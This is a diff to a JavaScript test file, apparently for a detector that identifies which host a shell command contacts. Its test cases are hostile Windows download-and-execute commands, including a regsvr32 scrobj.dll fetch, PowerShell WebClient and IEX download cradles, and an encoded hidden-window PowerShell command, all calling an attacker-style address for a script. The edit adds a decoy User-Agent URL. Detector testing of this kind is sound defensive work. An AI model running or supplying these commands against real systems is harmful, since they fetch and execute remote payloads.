@@ -83,7 +83,7 @@ describe("a command names whom it calls", () => {
     ["regsvr32 /s /n /u /i:http://45.0.0.1/bins.sh scrobj.dll", BINS],
     ["powershell -c \"(New-Object Net.WebClient).DownloadFile('http://45.0.0.1/bins.sh','x')\"", BINS],
     ["IEX (New-Object Net.WebClient).DownloadString('http://45.0.0.1/bins.sh')", BINS],
-    ["powershell iwr -Uri http://45.0.0.1/bins.sh -OutFile x", BINS],
+    ["powershell iwr -Uri http://45.0.0.1/bins.sh -OutFile x -UserAgent http://ua.example", BINS],
     [
       `powershell -nop -w hidden -enc ${utf16("IEX(New-Object Net.WebClient).DownloadString('http://45.0.0.1/bins.sh')")}`,
       BINS,
